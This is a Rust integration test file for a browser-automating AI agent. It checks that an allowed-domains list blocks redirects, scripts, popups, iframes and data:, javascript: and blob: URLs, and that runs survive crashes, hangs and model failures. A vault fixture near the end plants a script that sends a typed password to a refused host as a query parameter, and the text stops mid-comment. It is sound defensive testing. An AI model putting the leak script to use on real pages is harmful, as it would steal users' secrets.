//! Allowed domains and staying up, against a real Chromium and pages this
//! test serves on 127.0.0.1.
//!
//! Two page servers play the two sides: `home` (allowed by its exact
//! origin) and `away` (another port on 127.0.0.1, so refused). `away`
//! counts every request it gets, so "did not load" means the blocked host
//! never saw the request, not just that the page looks unchanged. One
//! shared browser for the binary; the killed-Chromium test runs
//! `webagent run`, which starts its own.

mod support;

use std::collections::HashMap;
use std::future::Future;
use std::process::Command;
use std::sync::{Arc, Mutex, OnceLock};
use std::time::Duration;

use serde_json::{json, Value};
use tokio::io::AsyncReadExt;

use support::chromium;
use support::cli::webagent;
use support::llm_server::{agent_step, tool_call_completion, tool_call_events, LlmServer, Reply};
use support::pages::page;
use support::scratch::scratch_dir;
use support::tab::{action, driver, with_page_on};
use support::tmux::{
    require_tmux_and_chromium, tmux_keys, tmux_start, wait_for_screen, TmuxSession,
};
use support::wait::eventually;
use webagent::actions::{ActionResult, FailureReason};
use webagent::agent::AGENT_TOOL_NAME;
use webagent::browser::act::ExecOptions;
use webagent::browser::Driver;
use webagent::browser::{BrowserSession, LaunchOptions};
use webagent::serve::{PageServer, Response};

/// The binary's shared browser (see `support::chromium`), launched to
/// allow only `home`, and the other side of the border.
struct Shared {
    runtime: &'static tokio::runtime::Runtime,
    session: BrowserSession,
    home: PageServer,
    away: PageServer,
    /// Requests `away` received, by path.
    away_hits: Arc<Mutex<HashMap<String, usize>>>,
    /// A port on which connections are accepted and never answered.
    hanging_port: u16,
}

fn shared() -> &'static Shared {
    static SHARED: OnceLock<Result<Shared, String>> = OnceLock::new();
    let shared = SHARED.get_or_init(|| {
        let chromium::Shared {
            runtime,
            session,
            server: home,
        } = chromium::Shared::start(|home| LaunchOptions {
            // `home` by its exact origin; `localhost` (any port) for the
            // hanging server; `away` matches neither.
            allowed_domains: vec![home.origin(), "http://localhost:*".into()],
            extra_args: vec![
                "--disable-background-timer-throttling".into(),
                "--disable-renderer-backgrounding".into(),
                "--disable-backgrounding-occluded-windows".into(),
            ],
            ..LaunchOptions::default()
        })?;
        let (away, hanging_port) = runtime.block_on(async {
            let away = PageServer::start().await.map_err(|e| e.to_string())?;
            Ok::<_, String>((away, start_hanging_server().await?))
        })?;
        Ok(Shared {
            runtime,
            session,
            home,
            away,
            away_hits: Arc::default(),
            hanging_port,
        })
    });
    chromium::started(shared.as_ref())
}

/// Accepts connections, reads the request, and never answers.
async fn start_hanging_server() -> Result<u16, String> {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .map_err(|e| e.to_string())?;
    let port = listener.local_addr().map_err(|e| e.to_string())?.port();
    tokio::spawn(async move {
        while let Ok((mut socket, _)) = listener.accept().await {
            tokio::spawn(async move {
                let mut buf = [0u8; 4096];
                // Hold the socket open until the browser gives up.
                while matches!(socket.read(&mut buf).await, Ok(n) if n > 0) {}
            });
        }
    });
    Ok(port)
}

/// Serves a page on `away` that counts its requests.
fn away_page(path: &str) -> String {
    let s = shared();
    let hits = s.away_hits.clone();
    let key = path.to_string();
    s.away.handle(path, move |_| {
        *hits
            .lock()
            .unwrap_or_else(|e| e.into_inner())
            .entry(key.clone())
            .or_default() += 1;
        Response::html(page("Away", "<h1>You reached the blocked host</h1>"))
    });
    s.away.url(path)
}

fn away_hits(path: &str) -> usize {
    let hits = shared().away_hits.lock().unwrap_or_else(|e| e.into_inner());
    hits.get(path).copied().unwrap_or(0)
}

/// Opens `path` on `home` in a fresh tab and runs `body` with an agent
/// environment on it.
fn with_env<F, Fut>(path: &str, html: &str, body: F)
where
    F: FnOnce(Driver) -> Fut,
    Fut: Future<Output = ()>,
{
    with_env_options(path, html, ExecOptions::default(), body)
}

fn with_env_options<F, Fut>(path: &str, html: &str, exec: ExecOptions, body: F)
where
    F: FnOnce(Driver) -> Fut,
    Fut: Future<Output = ()>,
{
    let s = shared();
    with_page_on(&s.session, &s.home, path, html, |tab, _| async move {
        body(driver(tab, exec)).await;
    });
}

fn assert_blocked(result: &ActionResult, url: &str) {
    match result {
        ActionResult::Failure { reason, message } => {
            assert_eq!(*reason, FailureReason::Blocked, "{message}");
            assert!(message.contains(url), "the message names {url}: {message}");
        }
        other => panic!("expected blocked for {url}, got {other:?}"),
    }
}

/// Clicks the first listed element whose text contains `text`.
async fn click_text(env: &mut Driver, text: &str) -> ActionResult {
    let state = env.observe().await.expect("observing");
    let element = state
        .elements
        .iter()
        .find(|e| e.text.contains(text))
        .unwrap_or_else(|| panic!("no element with {text:?} in\n{}", state.listing));
    env.execute(&action(json!({"click": {"index": element.index.0}})))
        .await
}

#[test]
fn the_agents_navigate_to_a_blocked_host_is_refused() {
    let target = away_page("/direct");
    with_env(
        "/direct-start",
        &page("Start", "<p>start</p>"),
        |mut env| async move {
            env.observe().await.expect("observing");
            let result = env
                .execute(&action(json!({"navigate": {"url": target}})))
                .await;
            assert_blocked(&result, &target);
            let state = env.observe().await.expect("observing after");
            assert!(
                state.url.ends_with("/direct-start"),
                "stayed: {}",
                state.url
            );
            // A navigation inside the allowed origin still works.
            let home = shared().home.url("/direct-start");
            let again = env
                .execute(&action(json!({"navigate": {"url": home}})))
                .await;
            assert!(again.is_ok(), "{again:?}");
        },
    );
    assert_eq!(away_hits("/direct"), 0, "the blocked host saw no request");
}

#[test]
fn a_redirect_chain_ending_on_a_blocked_host_does_not_load() {
    let s = shared();
    let target = away_page("/landing");
    let hop2 = s.home.url("/hop2");
    let to_away = target.clone();
    s.home.handle("/hop1", move |_| {
        Response::html("")
            .with_status(302)
            .with_header("Location", &hop2)
    });
    s.home.handle("/hop2", move |_| {
        Response::html("")
            .with_status(302)
            .with_header("Location", &to_away)
    });
    let hop1 = s.home.url("/hop1");
    with_env(
        "/redirect-start",
        &page("Start", "<p>start</p>"),
        |mut env| async move {
            env.observe().await.expect("observing");
            let result = env
                .execute(&action(json!({"navigate": {"url": hop1}})))
                .await;
            assert_blocked(&result, &target);
        },
    );
    assert_eq!(
        away_hits("/landing"),
        0,
        "the last hop never reached its host"
    );
}

#[test]
fn a_meta_refresh_to_a_blocked_host_does_not_load() {
    let target = away_page("/refreshed");
    let html = page(
        "Refresh",
        &format!("<meta http-equiv=\"refresh\" content=\"0;url={target}\"><p>refreshing</p>"),
    );
    let guard_target = target.clone();
    with_env("/refresh", &html, |mut env| async move {
        let guard = env.tab().guard().expect("a list is set").clone();
        let seen =
            eventually(|| guard.blocked_since(0).iter().any(|b| b.url == guard_target)).await;
        assert!(seen, "the refresh was refused and logged");
        let state = env.observe().await.expect("observing");
        assert!(
            !state.page_text.text.contains("blocked host"),
            "{}",
            state.page_text.text
        );
    });
    assert_eq!(away_hits("/refreshed"), 0);
}

#[test]
fn location_assignment_by_script_is_stopped_and_the_click_is_blocked() {
    let target = away_page("/scripted");
    let html = page(
        "Script",
        &format!("<button onclick=\"location = '{target}'\">Leave</button>"),
    );
    with_env("/script", &html, |mut env| async move {
        let result = click_text(&mut env, "Leave").await;
        assert_blocked(&result, &target);
        let state = env.observe().await.expect("observing");
        // Not Chromium's error page: the agent keeps its place.
        assert!(state.url.ends_with("/script"), "{}", state.url);
        assert!(state.listing.contains("Leave"), "{}", state.listing);
        assert!(
            !state.page_text.text.contains("blocked host"),
            "{}",
            state.page_text.text
        );
    });
    assert_eq!(away_hits("/scripted"), 0);
}

#[test]
fn window_open_to_a_blocked_host_leaves_no_tab_on_it() {
    let target = away_page("/popup");
    let html = page(
        "Opener",
        &format!("<button onclick=\"window.open('{target}')\">Open</button>"),
    );
    let popup_url = target.clone();
    with_env("/opener", &html, |mut env| async move {
        let _ = click_text(&mut env, "Open").await;
        let s = shared();
        let guard = env.tab().guard().expect("a list is set").clone();
        let refused =
            eventually(|| guard.blocked_since(0).iter().any(|b| b.url == popup_url)).await;
        assert!(refused, "the popup's URL was refused");
        let mut on_away = true;
        for _ in 0..100 {
            let tabs = s.session.tabs().await.expect("listing tabs");
            on_away = tabs.iter().any(|t| t.url.starts_with(&popup_url));
            if !on_away {
                break;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        assert!(!on_away, "no tab stays on the blocked URL");
    });
    assert_eq!(away_hits("/popup"), 0, "the popup's request never left");
}

#[test]
fn popups_inside_the_allowed_domains_open_and_blank_targets_outside_do_not() {
    let s = shared();
    s.home
        .html("/popup-ok", page("Popup fine", "<p>allowed popup</p>"));
    let allowed = s.home.url("/popup-ok");
    let target = away_page("/blank-target");
    let html = page(
        "Opener",
        &format!(
            "<button onclick=\"window.open('{allowed}')\">Open allowed</button>\
             <a href=\"{target}\" target=\"_blank\">New window away</a>"
        ),
    );
    let (allowed_url, away_url) = (allowed.clone(), target.clone());
    with_env("/opener-mixed", &html, |mut env| async move {
        let result = click_text(&mut env, "Open allowed").await;
        assert!(result.is_ok(), "{result:?}");
        let _ = click_text(&mut env, "New window away").await;
        let guard = env.tab().guard().expect("a list is set").clone();
        let refused = eventually(|| guard.blocked_since(0).iter().any(|b| b.url == away_url)).await;
        assert!(refused, "the _blank link's URL was refused");
        let mut allowed_open = false;
        for _ in 0..100 {
            let tabs = s.session.tabs().await.expect("listing tabs");
            allowed_open = tabs.iter().any(|t| t.url == allowed_url);
            if allowed_open {
                break;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        assert!(allowed_open, "the allowed popup stays open");
    });
    assert_eq!(away_hits("/blank-target"), 0);
}

#[test]
fn data_urls_are_refused_as_links_and_as_navigation() {
    let html = page(
        "Data",
        "<a href=\"data:text/html,<title>pwned</title><h1>pwned</h1>\">Open data</a>",
    );
    with_env("/data", &html, |mut env| async move {
        let _ = click_text(&mut env, "Open data").await;
        let state = env.observe().await.expect("observing");
        assert!(state.url.ends_with("/data"), "stayed: {}", state.url);
        assert!(
            !state.page_text.text.contains("pwned"),
            "{}",
            state.page_text.text
        );
        let result = env
            .execute(&action(
                json!({"navigate": {"url": "data:text/html,<h1>pwned</h1>"}}),
            ))
            .await;
        assert_blocked(&result, "data:text/html");
        let result = env
            .execute(&action(json!({"navigate": {"url": "javascript:alert(1)"}})))
            .await;
        assert_eq!(result.reason(), Some(FailureReason::Blocked), "{result:?}");
    });
}

#[test]
fn a_page_that_never_answers_ends_with_timeout_and_the_run_goes_on() {
    let s = shared();
    let hanging = format!("http://localhost:{}/never", s.hanging_port);
    let exec = ExecOptions {
        navigation_timeout: Duration::from_secs(3),
        ..ExecOptions::default()
    };
    let next = s.home.url("/after-hang");
    s.home
        .html("/after-hang", page("After", "<p>still here</p>"));
    with_env_options(
        "/hang-start",
        &page("Start", "<p>start</p>"),
        exec,
        |mut env| async move {
            env.observe().await.expect("observing");
            let result = env
                .execute(&action(json!({"navigate": {"url": hanging}})))
                .await;
            assert_eq!(result.reason(), Some(FailureReason::Timeout), "{result:?}");
            let result = env
                .execute(&action(json!({"navigate": {"url": next}})))
                .await;
            assert!(result.is_ok(), "the next action works: {result:?}");
            let state = env.observe().await.expect("observing after");
            assert!(
                state.page_text.text.contains("still here"),
                "{}",
                state.page_text.text
            );
        },
    );
}

#[test]
fn a_click_into_a_page_that_never_answers_does_not_wedge_the_tab() {
    let s = shared();
    let hanging = format!("http://localhost:{}/never-click", s.hanging_port);
    let exec = ExecOptions {
        navigation_timeout: Duration::from_secs(3),
        ..ExecOptions::default()
    };
    let next = s.home.url("/after-click-hang");
    s.home.html(
        "/after-click-hang",
        page("After", "<p>back in business</p>"),
    );
    let html = page("Start", &format!("<a href=\"{hanging}\">Stuck link</a>"));
    with_env_options("/click-hang", &html, exec, |mut env| async move {
        let result = click_text(&mut env, "Stuck link").await;
        assert_eq!(result.reason(), Some(FailureReason::Timeout), "{result:?}");
        let result = env
            .execute(&action(json!({"navigate": {"url": next}})))
            .await;
        assert!(result.is_ok(), "the next navigation works: {result:?}");
        let state = env.observe().await.expect("observing after");
        assert!(
            state.page_text.text.contains("back in business"),
            "{}",
            state.page_text.text
        );
    });
}

#[test]
fn a_renderer_crash_is_reported_and_the_page_comes_back() {
    use chromiumoxide::cdp::browser_protocol::page::CrashParams;
    with_env(
        "/crash",
        &page("Crash", "<button>Survivor</button>"),
        |mut env| async move {
            env.observe().await.expect("observing");
            // Page.crash never answers: the renderer it would answer from dies.
            let crash = env.tab().page().execute(CrashParams::default());
            let _ = tokio::time::timeout(Duration::from_secs(2), crash).await;
            let first = env.observe().await;
            let error = first.expect_err("a crashed page cannot be observed");
            assert!(
                !error.fatal,
                "a crash is not the end of the run: {}",
                error.message
            );
            let state = env.observe().await.expect("observing after the reload");
            assert!(state.listing.contains("Survivor"), "{}", state.listing);
        },
    );
}

#[test]
fn a_tab_closed_during_an_action_ends_it_and_the_next_step_gets_a_tab() {
    let html = page("Closing", "<p>waiting for nothing</p>");
    with_env("/closing", &html, |mut env| async move {
        env.observe().await.expect("observing");
        let page = env.tab().page().clone();
        let closer = tokio::spawn(async move {
            tokio::time::sleep(Duration::from_millis(300)).await;
            page.close().await
        });
        let waiting = action(json!({"wait_for": {"text": "never shows up", "timeout_ms": 8000}}));
        let result = env.execute(&waiting).await;
        assert!(!result.is_ok(), "the action cannot succeed on a closed tab");
        let _ = closer.await;
        // The next observation reports the loss (or recovers at once);
        // the one after sees the page again, in a new tab.
        let state = match env.observe().await {
            Ok(state) => state,
            Err(error) => {
                assert!(!error.fatal, "{}", error.message);
                env.observe().await.expect("observing in the new tab")
            }
        };
        assert!(state.url.ends_with("/closing"), "{}", state.url);
        assert!(state.page_text.text.contains("waiting for nothing"));
    });
}

#[test]
fn an_iframe_cannot_take_the_top_page_to_a_blocked_host() {
    let s = shared();
    let target = away_page("/framed");
    s.home.html(
        "/frame-inner",
        page(
            "Inner",
            &format!("<button onclick=\"top.location = '{target}'\">Escape</button>"),
        ),
    );
    let outer = page(
        "Outer",
        "<iframe src=\"/frame-inner\" width=400 height=200></iframe>",
    );
    with_env("/frame-outer", &outer, |mut env| async move {
        let result = click_text(&mut env, "Escape").await;
        assert_blocked(&result, &target);
        let state = env.observe().await.expect("observing");
        assert!(state.url.ends_with("/frame-outer"), "{}", state.url);
    });
    assert_eq!(away_hits("/framed"), 0);
}

#[test]
fn a_blob_document_the_page_makes_is_left_at_once() {
    let html = page(
        "Blob",
        "<button onclick=\"location = window.URL.createObjectURL(new Blob(['<title>pwned</title><h1>pwned</h1>'], {type: 'text/html'}))\">Blob</button>",
    );
    with_env("/blob", &html, |mut env| async move {
        // A blob: document never reaches the network, so interception
        // cannot stop it; the environment notices it after the action and
        // puts the page back.
        let result = click_text(&mut env, "Blob").await;
        assert_blocked(&result, "blob:");
        let state = env.observe().await.expect("observing");
        assert!(
            !state.page_text.text.contains("pwned"),
            "{} {}",
            state.url,
            state.page_text.text
        );
        assert!(state.url.ends_with("/blob"), "{}", state.url);
    });
}

// ---------------------------------------------------------------------
// `webagent run` end to end: a killed browser and a dead model endpoint.

/// A step of the scripted model, content with the run so far.
fn reply(goal: &str, action: Value) -> Reply {
    agent_step("fine so far", "", goal, action)
}

/// The parent pid of a process, from /proc.
fn parent_of(pid: u32) -> Option<u32> {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
    // The command name is in parentheses and may hold spaces.
    let rest = &stat[stat.rfind(')')? + 2..];
    rest.split_whitespace().nth(1)?.parse().ok()
}

fn command_name(pid: u32) -> String {
    std::fs::read_to_string(format!("/proc/{pid}/comm"))
        .unwrap_or_default()
        .trim()
        .to_string()
}

/// The main Chromium process started (through its guardian) by `root`.
fn browser_process_of(root: u32) -> Option<u32> {
    let pids: Vec<u32> = std::fs::read_dir("/proc")
        .ok()?
        .flatten()
        .filter_map(|e| e.file_name().to_str()?.parse().ok())
        .collect();
    pids.into_iter().find(|&pid| {
        let name = command_name(pid);
        if !name.starts_with("chromium") && !name.starts_with("chrome") {
            return false;
        }
        // The browser process, not a renderer: its parent is not Chromium.
        let Some(parent) = parent_of(pid) else {
            return false;
        };
        if command_name(parent).starts_with("chrom") {
            return false;
        }
        let mut at = parent;
        for _ in 0..10 {
            if at == root {
                return true;
            }
            match parent_of(at) {
                Some(up) if up > 1 => at = up,
                _ => return false,
            }
        }
        false
    })
}

/// Reads a trace file and checks that every line is one JSON event.
fn trace_events(dir: &std::path::Path) -> Vec<Value> {
    let traces: Vec<_> = std::fs::read_dir(dir)
        .expect("sessions dir")
        .flatten()
        .collect();
    assert_eq!(traces.len(), 1, "one trace file");
    let text = std::fs::read_to_string(traces[0].path()).expect("trace readable");
    text.lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("not JSON ({e}): {l}")))
        .collect()
}

#[test]
fn a_killed_browser_is_relaunched_and_the_trace_stays_whole() {
    let s = shared();
    s.home.html(
        "/kill",
        page("Kill", "<p>before the crash</p><button>Go</button>"),
    );
    let url = s.home.url("/kill");
    let sessions = scratch_dir("kill");
    let (output, killed) = s.runtime.block_on(async {
        let llm = LlmServer::start(vec![
            reply(
                "wait while the browser dies",
                json!({"wait": {"seconds": 4}}),
            ),
            reply(
                "finish",
                json!({"done": {"text": "survived", "success": true}}),
            ),
        ])
        .await;
        let mut command = webagent();
        command
            .args(["run", "Survive a crash", "--json", "--model", "m"])
            .args(["--url", &url])
            .args(["--base-url", &llm.base_url()])
            .arg("--sessions-dir")
            .arg(&sessions)
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped());
        let child = command.spawn().expect("webagent runs");
        let root = child.id();
        // The first answer (a 4 s wait) is being acted on: kill the browser.
        llm.wait_for_requests(1).await;
        tokio::time::sleep(Duration::from_millis(500)).await;
        let killed = match browser_process_of(root) {
            Some(pid) => Command::new("kill")
                .args(["-9", &pid.to_string()])
                .status()
                .map(|s| s.success())
                .unwrap_or(false),
            None => false,
        };
        let output = tokio::task::spawn_blocking(move || child.wait_with_output())
            .await
            .expect("joined")
            .expect("waited");
        (output, killed)
    });
    let stdout = String::from_utf8_lossy(&output.stdout);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(killed, "found and killed the run's Chromium");
    let events = trace_events(&sessions);
    let errors: Vec<&Value> = events.iter().filter(|e| e["type"] == "error").collect();
    assert!(
        errors.iter().any(|e| e["fatal"] == false
            && e["error"]
                .as_str()
                .unwrap_or("")
                .contains("started a new one")),
        "a non-fatal error says the browser was relaunched: {errors:?}\n{stderr}"
    );
    let last = events.last().expect("events");
    assert_eq!(last["type"], "done", "{stdout}");
    assert_eq!(last["success"], true, "{stdout}\n{stderr}");
    assert_eq!(output.status.code(), Some(0), "{stderr}");
    assert!(events.iter().filter(|e| e["type"] == "step").count() >= 2);
    let _ = std::fs::remove_dir_all(&sessions);
}

#[test]
fn a_killed_browser_that_cannot_be_relaunched_ends_the_run_with_a_clear_error() {
    let s = shared();
    s.home
        .html("/kill-once", page("Kill", "<p>only one browser</p>"));
    let url = s.home.url("/kill-once");
    let dir = scratch_dir("kill-once");
    let sessions = dir.join("sessions");
    // A Chromium that starts once: the relaunch finds it broken.
    let wrapper = dir.join("chromium-once");
    let marker = dir.join("started");
    std::fs::write(
        &wrapper,
        format!(
            "#!/bin/sh\nif [ -e '{m}' ]; then echo 'this Chromium starts only once' >&2; exit 1; fi\ntouch '{m}'\nexec /usr/bin/chromium \"$@\"\n",
            m = marker.display()
        ),
    )
    .expect("wrapper written");
    let made_executable = Command::new("chmod")
        .arg("+x")
        .arg(&wrapper)
        .status()
        .map(|s| s.success());
    assert_eq!(made_executable.ok(), Some(true));
    let (output, killed) = s.runtime.block_on(async {
        let llm = LlmServer::start(vec![
            reply(
                "wait while the browser dies",
                json!({"wait": {"seconds": 4}}),
            ),
            reply("never reached", json!({"read_page": {}})),
        ])
        .await;
        let mut command = webagent();
        command
            .args(["run", "Lose the browser", "--json", "--model", "m"])
            .args(["--url", &url])
            .args(["--base-url", &llm.base_url()])
            .arg("--chrome")
            .arg(&wrapper)
            .arg("--sessions-dir")
            .arg(&sessions)
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped());
        let child = command.spawn().expect("webagent runs");
        let root = child.id();
        llm.wait_for_requests(1).await;
        tokio::time::sleep(Duration::from_millis(500)).await;
        let killed = match browser_process_of(root) {
            Some(pid) => Command::new("kill")
                .args(["-9", &pid.to_string()])
                .status()
                .map(|s| s.success())
                .unwrap_or(false),
            None => false,
        };
        let output = tokio::task::spawn_blocking(move || child.wait_with_output())
            .await
            .expect("joined")
            .expect("waited");
        (output, killed)
    });
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(killed, "found and killed the run's Chromium");
    assert_eq!(output.status.code(), Some(1), "{stderr}");
    let events = trace_events(&sessions);
    let fatal: Vec<&Value> = events
        .iter()
        .filter(|e| e["type"] == "error" && e["fatal"] == true)
        .collect();
    assert_eq!(fatal.len(), 1, "{fatal:?}");
    let text = fatal[0]["error"].as_str().unwrap_or("");
    assert!(text.contains("could not be relaunched"), "{text}");
    let last = events.last().expect("events");
    assert_eq!(last["type"], "done");
    assert_eq!(last["success"], false);
    assert_eq!(events.iter().filter(|e| e["type"] == "step").count(), 1);
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn a_dead_model_endpoint_ends_the_run_with_a_fatal_error_and_keeps_the_steps() {
    let s = shared();
    s.home.html("/llm-down", page("Down", "<p>some text</p>"));
    let url = s.home.url("/llm-down");
    let sessions = scratch_dir("llm-down");
    let output = s.runtime.block_on(async {
        // One good answer; every later request gets a 500 (the script ran
        // out), which the client retries and then gives up on.
        let llm = LlmServer::start(vec![reply("read", json!({"read_page": {}}))]).await;
        let mut command = webagent();
        command
            .args(["run", "Read then fail", "--json", "--model", "m"])
            .args(["--url", &url])
            .args(["--base-url", &llm.base_url()])
            .arg("--sessions-dir")
            .arg(&sessions);
        let output = tokio::task::spawn_blocking(move || command.output())
            .await
            .expect("joined")
            .expect("runs");
        assert!(llm.request_count() > 2, "the failed call was retried");
        output
    });
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(1), "{stderr}");
    let events = trace_events(&sessions);
    let fatal: Vec<&Value> = events
        .iter()
        .filter(|e| e["type"] == "error" && e["fatal"] == true)
        .collect();
    assert_eq!(fatal.len(), 1, "{fatal:?}");
    assert!(
        fatal[0]["error"]
            .as_str()
            .unwrap_or("")
            .contains("model call failed"),
        "{fatal:?}"
    );
    let steps: Vec<&Value> = events.iter().filter(|e| e["type"] == "step").collect();
    assert_eq!(steps.len(), 1, "the step done before the failure is kept");
    assert_eq!(events.last().expect("events")["type"], "done");
    let _ = std::fs::remove_dir_all(&sessions);
}

/// Runs `webagent run` with `replies` from the model server and a config
/// file (`config_yaml`); returns the exit code, stderr and trace events.
fn run_with_model(
    name: &str,
    replies: Vec<Reply>,
    config_yaml: &str,
) -> (Option<i32>, String, Vec<Value>) {
    let s = shared();
    let path = format!("/{name}");
    s.home.html(&path, page(name, "<p>some text</p>"));
    let url = s.home.url(&path);
    let dir = scratch_dir(name);
    let sessions = dir.join("sessions");
    let config = dir.join("webagent.yaml");
    std::fs::write(&config, config_yaml).expect("config written");
    let output = s.runtime.block_on(async {
        let llm = LlmServer::start(replies).await;
        let mut command = webagent();
        command
            .args(["run", "Read then fail", "--json", "--model", "m"])
            .args(["--url", &url])
            .args(["--base-url", &llm.base_url()])
            .arg("--config")
            .arg(&config)
            .arg("--sessions-dir")
            .arg(&sessions);
        tokio::task::spawn_blocking(move || command.output())
            .await
            .expect("joined")
            .expect("runs")
    });
    let events = trace_events(&sessions);
    let _ = std::fs::remove_dir_all(&dir);
    (
        output.status.code(),
        String::from_utf8_lossy(&output.stderr).into_owned(),
        events,
    )
}

/// The run ended with one fatal `model call failed` error containing
/// `says`, after retrying when `retried`, and kept the step done before.
fn assert_ended_on_the_model(
    code: Option<i32>,
    stderr: &str,
    events: &[Value],
    says: &str,
    retried: bool,
) {
    assert_eq!(code, Some(1), "{stderr}");
    let fatal: Vec<&Value> = events
        .iter()
        .filter(|e| e["type"] == "error" && e["fatal"] == true)
        .collect();
    assert_eq!(fatal.len(), 1, "{fatal:?}");
    assert!(
        fatal[0]["error"]
            .as_str()
            .unwrap_or("")
            .contains("model call failed"),
        "{fatal:?}"
    );
    assert!(
        fatal[0]["error"].as_str().unwrap_or("").contains(says),
        "{fatal:?}"
    );
    let retries = events.iter().any(|e| {
        e["type"] == "error"
            && e["fatal"] == false
            && e["error"].as_str().unwrap_or("").contains("retry")
    });
    assert_eq!(retries, retried, "retried or not as specified: {events:?}");
    assert_eq!(events.iter().filter(|e| e["type"] == "step").count(), 1);
    assert_eq!(events.last().expect("events")["type"], "done");
}

#[test]
fn a_model_that_never_answers_is_retried_then_ends_the_run() {
    let replies = vec![
        reply("read", json!({"read_page": {}})),
        Reply::Hang,
        Reply::Hang,
        Reply::Hang,
    ];
    // Not streamed, so the whole-answer limit is the one that fires.
    let config = "llm:\n  max_retries: 1\n  streaming: false\n  timeouts:\n    total: 2\n";
    let (code, stderr, events) = run_with_model("llm-slow", replies, config);
    assert_ended_on_the_model(code, &stderr, &events, "", true);
}

#[test]
fn a_model_answering_garbage_ends_the_run_with_a_clear_error() {
    let garbage = || Reply::text(200, "application/json", "{\"choices\": [oops");
    let replies = vec![
        reply("read", json!({"read_page": {}})),
        garbage(),
        garbage(),
        garbage(),
    ];
    let config = "llm:\n  max_retries: 1\n  streaming: false\n";
    let (code, stderr, events) = run_with_model("llm-garbage", replies, config);
    // A 200 that is not JSON is not one of the retried failures (those are
    // connection errors, timeouts, 408/409/429 and 5xx): it ends at once.
    assert_ended_on_the_model(
        code,
        &stderr,
        &events,
        "not valid chat-completions JSON",
        false,
    );
}

#[test]
fn webagent_run_with_allow_domain_reports_the_refusal_in_the_trace() {
    let s = shared();
    s.home
        .html("/cli-guard", page("Guarded", "<p>home page</p>"));
    let url = s.home.url("/cli-guard");
    let target = away_page("/cli-away");
    let sessions = scratch_dir("cli-guard");
    let output = s.runtime.block_on(async {
        let llm = LlmServer::start(vec![
            reply("leave", json!({"navigate": {"url": target}})),
            reply(
                "finish",
                json!({"done": {"text": "could not leave", "success": false}}),
            ),
        ])
        .await;
        let mut command = webagent();
        command
            .args(["run", "Go elsewhere", "--json", "--model", "m"])
            .args(["--url", &url])
            .args(["--base-url", &llm.base_url()])
            .args(["--allow-domain", &s.home.origin()])
            // Leaving the site needs approval; grant it so the allowed
            // domains are what stops the navigation.
            .arg("--yes")
            .arg("--sessions-dir")
            .arg(&sessions);
        tokio::task::spawn_blocking(move || command.output())
            .await
            .expect("joined")
            .expect("runs")
    });
    let stderr = String::from_utf8_lossy(&output.stderr);
    let events = trace_events(&sessions);
    let step = events
        .iter()
        .find(|e| e["type"] == "step" && e["index"] == 1)
        .unwrap_or_else(|| panic!("step 1 in the trace: {stderr}"));
    assert_eq!(step["result"]["reason"], "blocked", "{step}");
    let message = step["result"]["message"].as_str().unwrap_or("");
    assert!(message.contains(&target), "{message}");
    assert_eq!(away_hits("/cli-away"), 0);
    let _ = std::fs::remove_dir_all(&sessions);
}

// ---------------------------------------------------------------------
// One secret, every way out of the process.

/// The secret value every channel below must never show.
const VAULT: &str = "Vq7-cobalt-0412";

/// Serves the vault pages on `home`: a GET form that echoes what it was
/// sent into its text, its title, a field's value and a link, and a
/// downloadable file holding the value.
fn serve_vault() -> String {
    let s = shared();
    s.home.html(
        "/vault",
        page(
            "Vault",
            "<form action=/vault/echo method=get><input name=pw id=pw placeholder=Password>\
             <button type=submit>Send</button></form>",
        ),
    );
    // The same form, but its answer page then sends the value on to a
    // host the allowed domains refuse, by itself, while the model thinks.
    s.home.html(
        "/vault/run",
        page(
            "Vault",
            "<form action=/vault/echo method=get><input name=pw id=pw placeholder=Password>\
             <input type=hidden name=leak value=1><button type=submit>Send</button></form>",
        ),
    );
    let refused = format!("http://localhost:{}/leak", s.away.addr().port());
    s.home.handle("/vault/echo", move |req| {
        let field = |name: &str| {
            url::form_urlencoded::parse(req.query.as_bytes())
                .find(|(k, _)| k == name)
                .map(|(_, v)| v.into_owned())
                .unwrap_or_default()
        };
        let sent = field("pw");
        let leak = if field("leak") == "1" {
            format!(
                "<script>setTimeout(() => {{ location.href = '{refused}?pw=' + \
                 encodeURIComponent(document.getElementById('copy').value) }}, 300)</script>"
            )
        } else {
            String::new()
        };
        Response::html(format!(
            "<!doctype html><html><head><title>Echo {sent}</title></head><body>\
             <p>You sent {sent}</p><input id=copy value=\"{sent}\">\
             <a href=\"/vault/again?pw={sent}\">again</a> \
             <a href=/vault/notes.txt download>notes</a>{leak}</body></html>"
        ))
    });
    s.home.handle("/vault/notes.txt", |_| {
        Response::text(format!("the vault code is {VAULT}\n"))
            .with_header("Content-Disposition", "attachment; filename=notes.txt")
    });
    s.home.url("/vault")
}

/// A config naming the secret and allowing only the vault's origin, for
/// every command alike.
fn vault_config(dir: &std::path::Path) -> std::path::PathBuf {
    let config = dir.join("webagent.yaml");
    std::fs::write(
        &config,
        format!(
            "secrets:\n  vault: env:WEBAGENT_TEST_VAULT\npaths:\n  sessions: sessions\n\
             allowed_domains: [\"{}\"]\n",
            shared().home.origin()
        ),
    )
    .expect("the config");
    config
}

/// Every file below `dir`, as text.
fn all_text_under(dir: &std::path::Path) -> String {
    let mut text = String::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(at) = stack.pop() {
        for entry in std::fs::read_dir(&at).into_iter().flatten().flatten() {
            let path = entry.path();
            if path.is_dir() {
                stack.push(path);
            } else {
                text.push_str(&String::from_utf8_lossy(
                    &std::fs::read(&path).unwrap_or_default(),
                ));
            }
        }
    }
    text
}

fn assert_no_secret(channel: &str, text: &str) {
    assert!(
        !text.contains(VAULT),
        "the secret reached {channel}:\n{}",
        text.lines()
            .filter(|l| l.contains(VAULT))
            .collect::<Vec<_>>()
            .join("\n")
    );
}

/// The secret is typed into a page that shows it back in every way a page
